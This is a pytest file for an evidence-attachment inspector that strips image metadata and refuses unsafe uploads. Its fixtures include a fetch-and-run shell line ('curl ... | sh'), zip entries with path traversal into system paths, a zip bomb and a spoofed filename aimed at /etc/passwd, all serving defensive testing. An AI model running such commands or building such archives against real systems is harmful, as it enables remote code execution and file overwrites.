"""Evidence files: the kind from the content, images without metadata, hostile files refused.

Every file here is a real one, made in the test: images by Pillow (with real EXIF, GPS,
ICC, text chunks, comments), a PDF written by hand, ZIP documents by zipfile.
"""

from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib

import pytest
from PIL import Image, ImageCms, ImageSequence, PngImagePlugin

from registry.cases import attachments
from registry.cases.attachments import Evidence, Limits, check_batch, inspect
from registry.refusals import Invalid

LIMITS = Limits()
GPS_IFD = 0x8825
MODEL = 0x0110
ORIENTATION = 0x0112
CAMERA = "Secret Camera Model X100"


def _refused(data: bytes, message: str, *, filename: str = "evidence", limits: Limits = LIMITS,
             ) -> Invalid:
    with pytest.raises(Invalid) as caught:
        inspect(data, filename=filename, limits=limits)
    assert caught.value.message == message, caught.value.text()
    assert caught.value.field == "attachments"
    return caught.value


def _exif(*, orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[MODEL] = CAMERA
    exif[0x010F] = "Maker"
    if orientation is not None:
        exif[ORIENTATION] = orientation
    gps = exif.get_ifd(GPS_IFD)
    gps[1], gps[2] = "N", (53.0, 54.0, 12.5)  # Minsk
    gps[3], gps[4] = "E", (27.0, 33.0, 58.0)
    return exif


def _srgb_icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _s15(value: float) -> bytes:
    return struct.pack(">i", round(value * 65536))


def _xyz(x: float, y: float, z: float) -> bytes:
    return b"XYZ " + bytes(4) + _s15(x) + _s15(y) + _s15(z)


def _swapped_icc() -> bytes:
    """An ICC v2 RGB profile written by hand: sRGB's primaries with red and blue swapped,
    so that pure red in it is pure blue in sRGB."""
    text = b"red and blue swapped"
    desc = (b"desc" + bytes(4) + struct.pack(">I", len(text) + 1) + text + b"\0"
            + bytes(8) + bytes(3) + bytes(67))
    curve = b"curv" + bytes(4) + struct.pack(">IH", 1, 0x0233) + bytes(2)  # gamma 2.2
    red, green, blue = (0.4361, 0.2225, 0.0139), (0.3851, 0.7169, 0.0971), (0.1431, 0.0606,
                                                                              0.7141)
    tags = [(b"desc", desc), (b"wtpt", _xyz(0.9642, 1.0, 0.8249)), (b"rXYZ", _xyz(*blue)),
            (b"gXYZ", _xyz(*green)), (b"bXYZ", _xyz(*red)), (b"rTRC", curve),
            (b"gTRC", curve), (b"bTRC", curve)]
    table, body = b"", b""
    start = 128 + 4 + 12 * len(tags)
    for signature, data in tags:
        table += signature + struct.pack(">II", start + len(body), len(data))
        body += data + bytes(-len(data) % 4)
    header = (struct.pack(">I", start + len(body)) + bytes(4) + struct.pack(">I", 0x02100000)
              + b"mntrRGB XYZ " + bytes(12) + b"acsp" + bytes(28)
              + _s15(0.9642) + _s15(1.0) + _s15(0.8249) + bytes(48))
    return header + struct.pack(">I", len(tags)) + table + body


def _jpeg_markers(data: bytes) -> list[int]:
    """The markers of a JPEG's segments up to its image data."""
    assert data[:2] == b"\xff\xd8"
    markers, at = [], 2
    while at < len(data):
        assert data[at] == 0xFF
        marker = data[at + 1]
        markers.append(marker)
        if marker == 0xDA:  # start of scan: the pixels follow
            return markers
        at += 2 + int.from_bytes(data[at + 2:at + 4], "big")
    raise AssertionError("no image data")


def _png_chunks(data: bytes) -> list[bytes]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    chunks, at = [], 8
    while at < len(data):
        length = int.from_bytes(data[at:at + 4], "big")
        chunks.append(data[at + 4:at + 8])
        at += 12 + length
    return chunks


def _riff_chunks(data: bytes) -> list[bytes]:
    assert data[:4] == b"RIFF" and data[8:12] == b"WEBP"
    chunks, at = [], 12
    while at + 8 <= len(data):
        size = int.from_bytes(data[at + 4:at + 8], "little")
        chunks.append(data[at:at + 4])
        at += 8 + size + (size & 1)
    return chunks


def _png_of_one_colour(width: int, height: int) -> bytes:
    """A valid black-and-white PNG of any size, written row by row (Pillow would need
    the whole image in memory); one colour compresses to almost nothing."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (struct.pack(">I", len(body)) + kind + body
                + struct.pack(">I", zlib.crc32(kind + body)))

    packer = zlib.compressobj(9)
    row = b"\x00" + bytes((width + 7) // 8)
    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat)
            + chunk(b"IEND", b""))


def _pdf() -> bytes:
    """A minimal valid PDF, one empty page, with an author in its document information."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
               b"<< /Author (Anna K.) /Producer (hand) >>"]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += (b"trailer\n<< /Size %d /Root 1 0 R /Info 4 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objects) + 1, xref))
    return bytes(out)


def _zip(entries: list[tuple[str, bytes]], *, stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, body) in enumerate(entries):
            kind = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), body,
                             compress_type=kind)
    return buffer.getvalue()


RELS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
        b'formats.org/officeDocument/2006/relationships/officeDocument" Target="%s"/>'
        b'</Relationships>')


def _ooxml(main: str, content_type: str, *, extra: list[tuple[str, bytes]] = ()) -> bytes:
    types = (f'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
             f'2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
             f'openxmlformats-package.relationships+xml"/><Default Extension="xml" '
             f'ContentType="application/xml"/><Override PartName="/{main}" '
             f'ContentType="{content_type}"/></Types>').encode()
    return _zip([("[Content_Types].xml", types), ("_rels/.rels", RELS % main.encode()),
                 (main, b'<?xml version="1.0"?><document/>'), *extra])


def _docx(**kwargs: list[tuple[str, bytes]]) -> bytes:
    return _ooxml("word/document.xml", "application/vnd.openxmlformats-officedocument."
                  "wordprocessingml.document.main+xml", **kwargs)


def _xlsx() -> bytes:
    return _ooxml("xl/workbook.xml", "application/vnd.openxmlformats-officedocument."
                  "spreadsheetml.sheet.main+xml")


def _odf(mimetype: str, *, manifest_extra: bytes = b"",
         extra: list[tuple[str, bytes]] = ()) -> bytes:
    manifest = (b'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                b'opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry '
                b'manifest:full-path="/" manifest:media-type="' + mimetype.encode() + b'"/>'
                b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type='
                b'"text/xml">' + manifest_extra + b'</manifest:file-entry></manifest:manifest>')
    return _zip([("mimetype", mimetype.encode()), ("META-INF/manifest.xml", manifest),
                 ("content.xml", b'<?xml version="1.0"?><office:document-content/>'), *extra],
                stored_first=True)


def _central_directory(data: bytes) -> list[int]:
    """Where each central directory entry of a ZIP starts."""
    end = data.rindex(b"PK\x05\x06")
    count = int.from_bytes(data[end + 10:end + 12], "little")
    at = int.from_bytes(data[end + 16:end + 20], "little")
    starts = []
    for _ in range(count):
        assert data[at:at + 4] == b"PK\x01\x02"
        starts.append(at)
        lengths = (int.from_bytes(data[at + offset:at + offset + 2], "little")
                   for offset in (28, 30, 32))
        at += 46 + sum(lengths)
    return starts


# --- Images lose their metadata ---------------------------------------------------------

def test_a_jpeg_loses_its_exif_gps_position_and_camera_model():
    source = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(source, "JPEG", exif=_exif(), quality=90)
    data = source.getvalue()
    stored = Image.open(io.BytesIO(data)).getexif()
    assert stored[MODEL] == CAMERA and stored.get_ifd(GPS_IFD)[2] == (53.0, 54.0, 12.5)

    evidence = inspect(data, filename="IMG_0001.JPG", limits=LIMITS)

    assert evidence.metadata_removed is True
    assert (evidence.media_type, evidence.extension) == ("image/jpeg", ".jpg")
    assert evidence.size == len(evidence.content)
    image = Image.open(io.BytesIO(evidence.content))
    assert image.format == "JPEG" and image.size == (64, 48)
    assert len(image.getexif()) == 0 and "exif" not in image.info
    assert 0xE1 in _jpeg_markers(data) and 0xE1 not in _jpeg_markers(evidence.content)
    assert b"Exif" not in evidence.content and CAMERA.encode() not in evidence.content


def test_a_jpeg_is_turned_upright_by_its_orientation_then_loses_it():
    # Stored 40 wide and 20 high, red on the left; orientation 6 says: turn it a
    # quarter clockwise to show it, so it shows 20 wide and 40 high, red at the top.
    stored = Image.new("RGB", (40, 20), (0, 0, 255))
    stored.paste((255, 0, 0), (0, 0, 20, 20))
    source = io.BytesIO()
    stored.save(source, "JPEG", exif=_exif(orientation=6), quality=95)

    evidence = inspect(source.getvalue(), filename="photo.jpg", limits=LIMITS)

    image = Image.open(io.BytesIO(evidence.content)).convert("RGB")
    assert image.size == (20, 40)
    top, bottom = image.getpixel((10, 5)), image.getpixel((10, 35))
    assert top[0] > 200 and top[2] < 60, top
    assert bottom[2] > 200 and bottom[0] < 60, bottom
    assert ORIENTATION not in Image.open(io.BytesIO(evidence.content)).getexif()


def test_a_jpeg_loses_its_icc_profile_and_comment():
    source = io.BytesIO()
    Image.new("RGB", (32, 32), (10, 120, 10)).save(
        source, "JPEG", icc_profile=_srgb_icc(), comment=b"taken at Okrestina street")
    data = source.getvalue()
    assert {0xE2, 0xFE} <= set(_jpeg_markers(data))

    evidence = inspect(data, filename="a.jpg", limits=LIMITS)

    markers = _jpeg_markers(evidence.content)
    assert 0xE2 not in markers and 0xFE not in markers  # no ICC (APP2), no comment
    assert [marker for marker in markers if 0xE1 <= marker <= 0xEF] == []
    assert b"Okrestina" not in evidence.content
    assert Image.open(io.BytesIO(evidence.content)).size == (32, 32)


def test_a_png_loses_its_text_chunks_exif_and_icc_profile():
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "Secret Person")
    text.add_text("Comment", "hidden in zTXt", zip=True)
    text.add_itxt("Location", "Minsk, Partyzanski district")
    source = io.BytesIO()
    Image.new("RGBA", (30, 20), (1, 2, 3, 128)).save(
        source, "PNG", pnginfo=text, exif=_exif(), icc_profile=_srgb_icc())
    data = source.getvalue()
    assert {b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"iCCP"} <= set(_png_chunks(data))

    evidence = inspect(data, filename="screenshot.png", limits=LIMITS)

    assert (evidence.media_type, evidence.extension) == ("image/png", ".png")
    assert set(_png_chunks(evidence.content)) <= {b"IHDR", b"PLTE", b"tRNS", b"IDAT", b"IEND"}
    assert b"Secret Person" not in evidence.content and b"Minsk" not in evidence.content
    image = Image.open(io.BytesIO(evidence.content))
    assert image.size == (30, 20) and image.getpixel((3, 3)) == (1, 2, 3, 128)


def test_an_animated_gif_keeps_its_frames_and_loses_its_comment():
    colours = [(255, 0, 0), (0, 255, 0), (0, 0, 255)]
    frames = [Image.new("RGB", (24, 24), colour) for colour in colours]
    source = io.BytesIO()
    frames[0].save(source, "GIF", save_all=True, append_images=frames[1:],
                   duration=[100, 200, 300], loop=0, comment=b"filmed by Ivan")
    assert b"filmed by Ivan" in source.getvalue()

    evidence = inspect(source.getvalue(), filename="clip.gif", limits=LIMITS)

    assert evidence.media_type == "image/gif" and evidence.metadata_removed
    assert b"filmed by Ivan" not in evidence.content
    image = Image.open(io.BytesIO(evidence.content))
    assert image.n_frames == 3 and "comment" not in image.info
    shown = [(frame.info["duration"], frame.convert("RGB").getpixel((5, 5)))
             for frame in ImageSequence.Iterator(image)]
    assert shown == list(zip([100, 200, 300], colours, strict=True))


def test_a_webp_loses_its_exif_xmp_and_icc_chunks():
    source = io.BytesIO()
    Image.new("RGB", (40, 30), (90, 90, 200)).save(
        source, "WEBP", exif=_exif(), xmp=b"<x:xmpmeta>GPS 53.9 27.5</x:xmpmeta>",
        icc_profile=_srgb_icc(), lossless=True)
    data = source.getvalue()
    assert {b"EXIF", b"XMP ", b"ICCP"} <= set(_riff_chunks(data))

    evidence = inspect(data, filename="x.webp", limits=LIMITS)

    assert (evidence.media_type, evidence.extension) == ("image/webp", ".webp")
    assert not {b"EXIF", b"XMP ", b"ICCP"} & set(_riff_chunks(evidence.content))
    assert b"53.9" not in evidence.content
    image = Image.open(io.BytesIO(evidence.content))
    assert image.size == (40, 30) and image.getpixel((5, 5)) == (90, 90, 200)  # lossless kept


def test_a_jpeg_with_further_pictures_keeps_only_the_first_without_metadata():
    # Cameras and phones add previews or depth maps as further pictures (MPO, MPF in APP2).
    source = io.BytesIO()
    Image.new("RGB", (30, 20), (255, 0, 0)).save(
        source, "MPO", save_all=True, append_images=[Image.new("RGB", (30, 20), (0, 0, 255))],
        exif=_exif())
    data = source.getvalue()
    assert Image.open(io.BytesIO(data)).format == "MPO" and CAMERA.encode() in data

    evidence = inspect(data, filename="dual.jpg", limits=LIMITS)

    image = Image.open(io.BytesIO(evidence.content))
    assert image.format == "JPEG" and image.size == (30, 20)
    assert not {0xE1, 0xE2} & set(_jpeg_markers(evidence.content))
    assert CAMERA.encode() not in evidence.content
    assert image.convert("RGB").getpixel((5, 5))[0] > 200


def test_colours_are_converted_from_the_icc_profile_before_it_goes():
    source = io.BytesIO()
    Image.new("RGBA", (10, 10), (255, 0, 0, 128)).save(source, "PNG",
                                                        icc_profile=_swapped_icc())
    assert b"iCCP" in _png_chunks(source.getvalue())

    evidence = inspect(source.getvalue(), filename="a.png", limits=LIMITS)

    assert b"iCCP" not in _png_chunks(evidence.content)
    assert Image.open(io.BytesIO(evidence.content)).getpixel((5, 5)) == (0, 0, 255, 128)
    jpeg = io.BytesIO()
    Image.new("RGB", (16, 16), (255, 0, 0)).save(jpeg, "JPEG", icc_profile=_swapped_icc())
    shown = Image.open(io.BytesIO(inspect(jpeg.getvalue(), filename="b.jpg",
                                          limits=LIMITS).content)).getpixel((8, 8))
    assert shown[2] > 200 and shown[0] < 60, shown


def test_an_unusable_icc_profile_is_dropped_and_the_image_kept():
    source = io.BytesIO()
    Image.new("RGB", (10, 10), (255, 0, 0)).save(source, "PNG", icc_profile=b"not a profile")

    evidence = inspect(source.getvalue(), filename="a.png", limits=LIMITS)

    assert b"iCCP" not in _png_chunks(evidence.content)
    assert Image.open(io.BytesIO(evidence.content)).getpixel((5, 5)) == (255, 0, 0)


def test_an_animated_webp_keeps_its_frames_losslessly_and_loses_its_exif():
    colours = [(250, 10, 10), (10, 250, 10), (10, 10, 250)]
    frames = [Image.new("RGB", (16, 16), colour) for colour in colours]
    source = io.BytesIO()
    frames[0].save(source, "WEBP", save_all=True, append_images=frames[1:],
                   duration=[100, 200, 300], loop=0, lossless=True, exif=_exif())
    assert b"EXIF" in _riff_chunks(source.getvalue())

    evidence = inspect(source.getvalue(), filename="clip.webp", limits=LIMITS)

    assert b"EXIF" not in _riff_chunks(evidence.content)
    assert CAMERA.encode() not in evidence.content
    image = Image.open(io.BytesIO(evidence.content))
    assert image.n_frames == 3
    shown = []
    for frame in ImageSequence.Iterator(image):
        pixel = frame.convert("RGB").getpixel((5, 5))
        shown.append((frame.info["duration"], pixel))
    assert shown == list(zip([100, 200, 300], colours, strict=True))


# --- Images that cannot be processed safely ----------------------------------------------

def test_an_image_of_20000_by_20000_pixels_is_refused():
    data = _png_of_one_colour(20_000, 20_000)
    assert len(data) < LIMITS.max_bytes
    _refused(data, attachments.IMAGE_TOO_LARGE)


def test_an_image_over_our_own_pixel_limit_is_refused_all_frames_counted():
    limits = Limits(max_pixels=10_000)
    small, large = io.BytesIO(), io.BytesIO()
    Image.new("L", (100, 100), 7).save(small, "PNG")
    Image.new("L", (101, 100), 7).save(large, "PNG")
    assert inspect(small.getvalue(), filename="s.png", limits=limits).size > 0
    _refused(large.getvalue(), attachments.IMAGE_TOO_LARGE, limits=limits)
    # Three frames of 60 x 60: 3,600 pixels each, 10,800 together.
    frames = [Image.new("RGB", (60, 60), colour) for colour in ("red", "green", "blue")]
    animation = io.BytesIO()
    frames[0].save(animation, "GIF", save_all=True, append_images=frames[1:], duration=100)
    _refused(animation.getvalue(), attachments.IMAGE_TOO_LARGE, limits=limits)


def test_a_truncated_image_is_refused_as_damaged():
    source = io.BytesIO()
    Image.effect_noise((200, 200), 50).save(source, "PNG")
    _refused(source.getvalue()[: len(source.getvalue()) // 2], attachments.DAMAGED)


# --- Documents kept as they are ------------------------------------------------------------

def test_a_pdf_is_kept_byte_for_byte_with_its_metadata():
    data = _pdf()

    evidence = inspect(data, filename="report.pdf", limits=LIMITS)

    assert evidence == Evidence(content=data, media_type="application/pdf", extension=".pdf",
                                size=len(data), metadata_removed=False, name="report.pdf")


@pytest.mark.parametrize(("make", "media_type", "extension"), [
    (_docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ".docx"),
    (_xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", ".xlsx"),
    (lambda: _odf("application/vnd.oasis.opendocument.text"),
     "application/vnd.oasis.opendocument.text", ".odt"),
    (lambda: _odf("application/vnd.oasis.opendocument.spreadsheet"),
     "application/vnd.oasis.opendocument.spreadsheet", ".ods"),
])
def test_office_documents_are_accepted_by_their_zip_markers(make, media_type, extension):
    data = make()

    evidence = inspect(data, filename="no extension", limits=LIMITS)

    assert (evidence.media_type, evidence.extension) == (media_type, extension)
    assert evidence.content == data and evidence.metadata_removed is False


def test_utf8_text_is_accepted_as_plain_text():
    data = "Свабода палітвязням. Freedom for political prisoners.\r\n\tЯ сведка.\n".encode()

    evidence = inspect(data, filename="notes.txt", limits=LIMITS)

    assert evidence.media_type == "text/plain; charset=utf-8" and evidence.extension == ".txt"
    assert evidence.content == data and not evidence.metadata_removed


def test_text_that_is_not_utf8_is_refused_with_advice():
    # Latin-1 (or Windows-1251) cannot be told from any other 8-bit bytes: refused, and
    # the filer is told to save it as UTF-8.
    _refused("Café résumé, naïve".encode("latin-1"), attachments.NOT_UTF8)
    _refused("Свабода".encode("cp1251"), attachments.NOT_UTF8)
    _refused("Свабода".encode("utf-16"), attachments.NOT_UTF8)  # with its byte order mark


def test_text_that_begins_like_a_signature_is_still_text():
    for data in (b"%PDF is the format they asked for.\n", b"BM and GIF87 are old formats.\n"):
        assert inspect(data, filename="a.pdf", limits=LIMITS).media_type.startswith(
            "text/plain")


def test_utf8_with_control_characters_is_not_text():
    _refused(b"looks like text\x00\x01\x02 but is not", attachments.NOT_ACCEPTED)


def test_the_name_never_decides_the_kind():
    png = io.BytesIO()
    Image.new("RGB", (8, 8)).save(png, "PNG")
    as_pdf = inspect(png.getvalue(), filename="evidence.pdf", limits=LIMITS)
    assert (as_pdf.media_type, as_pdf.extension, as_pdf.name) == (
        "image/png", ".png", "evidence.pdf")
    as_image = inspect(_pdf(), filename="photo.jpg", limits=LIMITS)
    assert (as_image.media_type, as_image.extension) == ("application/pdf", ".pdf")


# --- Programs and other files refused --------------------------------------------------------

@pytest.mark.parametrize("data", [
    b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(100),
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(50)
    + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(50),
    b"#!/bin/sh\ncurl -s https://example.org/x | sh\n",  # valid UTF-8 text, all the same
    b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(100),  # Mach-O, 64-bit
], ids=["elf", "mz", "shell-script", "mach-o"])
def test_programs_named_pdf_are_refused(data):
    _refused(data, attachments.NOT_ACCEPTED, filename="evidence.pdf")


def test_a_zip_that_is_no_office_document_is_refused():
    data = _zip([("evidence/photo.txt", b"hello"), ("run.exe", b"MZ" + bytes(20))])
    _refused(data, attachments.NOT_ACCEPTED, filename="evidence.docx")


def test_other_opendocument_and_office_kinds_are_refused():
    _refused(_odf("application/vnd.oasis.opendocument.presentation"), attachments.NOT_ACCEPTED)
    _refused(_ooxml("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument."
                    "presentationml.presentation.main+xml"), attachments.NOT_ACCEPTED)


def test_a_zip_with_an_opendocument_mimetype_of_another_kind_is_refused():
    _refused(_odf("application/x-something-else"), attachments.NOT_ACCEPTED)


def test_zip_documents_no_office_suite_writes_are_refused():
    docx = _docx()
    entries = []
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        entries = [(entry.filename, archive.read(entry)) for entry in archive.infolist()]
    _refused(_zip([*entries, ("../../outside.xml", b"<x/>")]), attachments.NOT_ACCEPTED)
    _refused(_zip([*entries, ("/etc/cron.d/x", b"<x/>")]), attachments.NOT_ACCEPTED)
    with pytest.warns(UserWarning, match="Duplicate name"):
        twice = _zip([*entries, ("word/document.xml", b"<other/>")])
    _refused(twice, attachments.NOT_ACCEPTED)
    # OpenDocument's mimetype entry must be stored, not compressed.
    odt = _odf("application/vnd.oasis.opendocument.text")
    with zipfile.ZipFile(io.BytesIO(odt)) as archive:
        parts = [(entry.filename, archive.read(entry)) for entry in archive.infolist()]
    _refused(_zip(parts), attachments.NOT_ACCEPTED)


def test_documents_with_macros_are_refused():
    docm = _ooxml("word/document.xml",
                  "application/vnd.ms-word.document.macroEnabled.main+xml")
    _refused(docm, attachments.MACROS)
    project = _docx(extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(60))])
    _refused(project, attachments.MACROS)
    odt = _odf("application/vnd.oasis.opendocument.text",
               extra=[("Basic/Standard/Module1.xml", b"<script:module/>")])
    _refused(odt, attachments.MACROS)


def test_encrypted_documents_are_refused():
    # A ZIP with its encryption flag set, in each local and central header.
    data = bytearray(_docx())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        locals_ = [entry.header_offset for entry in archive.infolist()]
    for at in locals_:
        data[at + 6] |= 0x01
    for at in _central_directory(bytes(data)):
        data[at + 8] |= 0x01
    _refused(bytes(data), attachments.ENCRYPTED)
    # LibreOffice's password: the manifest says how each part is encrypted.
    odt = _odf("application/vnd.oasis.opendocument.text",
               manifest_extra=b'<manifest:encryption-data manifest:checksum-type="SHA1/1K"/>')
    _refused(odt, attachments.ENCRYPTED)


def test_old_office_files_are_refused_and_encrypted_ones_say_so():
    # Only the markers of the compound file format (a whole one is not made here):
    # its signature, and the directory entry a password-protected DOCX or XLSX has.
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    _refused(header + "WordDocument".encode("utf-16-le") + bytes(64), attachments.NOT_ACCEPTED)
    _refused(header + "EncryptedPackage".encode("utf-16-le") + bytes(64),
             attachments.ENCRYPTED)


def test_a_zip_bomb_is_refused_from_its_declared_size_without_unpacking_it():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        with archive.open("word/media/zeros.bin", "w") as member:
            for _ in range(200):
                member.write(bytes(1024 * 1024))  # 200 MB of zeros
    data = buffer.getvalue()
    assert len(data) < 1024 * 1024

    started = time.perf_counter()
    refusal = _refused(data, attachments.UNPACKED, filename="contract.docx")
    # Unpacking even half of it takes far longer than this on any machine.
    assert time.perf_counter() - started < 0.1
    assert refusal.text() == ("This document would unpack to more than 100 MB, which is not "
                              "accepted.")


def test_a_zip_entry_that_lies_about_its_size_is_refused_as_damaged():
    data = bytearray(_docx(extra=[("word/media/image.bin", bytes(2 * 1024 * 1024))]))
    entry = _central_directory(bytes(data))[-1]
    assert int.from_bytes(data[entry + 24:entry + 28], "little") == 2 * 1024 * 1024
    data[entry + 24:entry + 28] = (1000).to_bytes(4, "little")  # says 1,000 bytes
    _refused(bytes(data), attachments.DAMAGED)


# --- Sizes and names --------------------------------------------------------------------------

def test_an_empty_file_is_refused():
    _refused(b"", attachments.EMPTY)


def test_a_file_over_the_size_limit_is_refused_and_one_at_it_accepted():
    limits = Limits(max_bytes=1024 * 1024)
    assert inspect(b"a" * 1024 * 1024, filename="t.txt", limits=limits).size == 1024 * 1024
    refusal = _refused(b"a" * (1024 * 1024 + 1), attachments.FILE_TOO_LARGE, limits=limits)
    assert refusal.values == {"limit": "1"}
    default = _refused(b"a" * (10 * 1024 * 1024 + 1), attachments.FILE_TOO_LARGE)
    assert default.text() == "This file is larger than 10 MB."


def test_a_filename_loses_its_path_and_bidi_override():
    evidence = inspect(_pdf(), filename="../../etc/passwd\u202e.pdf", limits=LIMITS)
    assert evidence.name == "passwd.pdf"
    windows = "C:\\Users\\anna\\Desktop\\фота\u200b\u2066 1.jpg"
    assert attachments.clean_name(windows) == "фота 1.jpg"
    assert attachments.clean_name("line\nbreak\x00.txt") == "line break.txt"
    long = attachments.clean_name("я" * 300 + ".docx")
    assert len(long) == 120 and long.endswith("я.docx")
    assert inspect(b"text", filename="../..", limits=LIMITS).name == "attachment.txt"


def test_check_batch_refuses_too_many_files_and_too_much_together():
    check_batch([10, 20], max_count=2, max_total=30)  # at both limits: fine
    with pytest.raises(Invalid) as too_many:
        check_batch([1, 1, 1], max_count=2, max_total=100)
    assert too_many.value.text() == "Too many files: at most 2."
    assert too_many.value.field == "attachments"
    with pytest.raises(Invalid) as too_large:
        check_batch([15 * 1024 * 1024, 6 * 1024 * 1024], max_count=5,
                    max_total=20 * 1024 * 1024)
    assert too_large.value.text() == "These files are larger than 20 MB together."
